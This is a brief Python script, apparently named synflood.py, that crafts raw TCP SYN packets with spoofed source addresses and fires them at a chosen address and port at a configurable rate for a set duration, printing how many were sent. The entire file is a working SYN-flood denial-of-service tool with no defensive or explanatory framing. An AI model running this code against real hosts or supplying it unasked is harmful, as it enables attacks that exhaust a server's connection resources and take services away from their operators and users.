#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""SYNs of nobody: synflood.py ADDRESS PORT SECONDS [PER_SECOND]. Prints how many."""
import random
import socket
import struct
import sys
import time

target, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
rate = int(sys.argv[4]) if len(sys.argv) > 4 else 5000
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn():
    source = socket.inet_aton(f"203.0.113.{random.randrange(1, 255)}")
    sport, sequence = random.randrange(1024, 65536), random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHHBBH", sport, port, sequence, 0, 6 << 4, 2, 64240, 0, 0, 2, 4, 1460)
    pseudo = source + socket.inet_aton(target) + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source,
                       socket.inet_aton(target))
    return head + tcp


sent, start = 0, time.monotonic()
while (now := time.monotonic() - start) < seconds:
    if sent >= rate * now:
        time.sleep(0.001)
        continue
    out.sendto(syn(), (target, 0))
    sent += 1
print(sent)
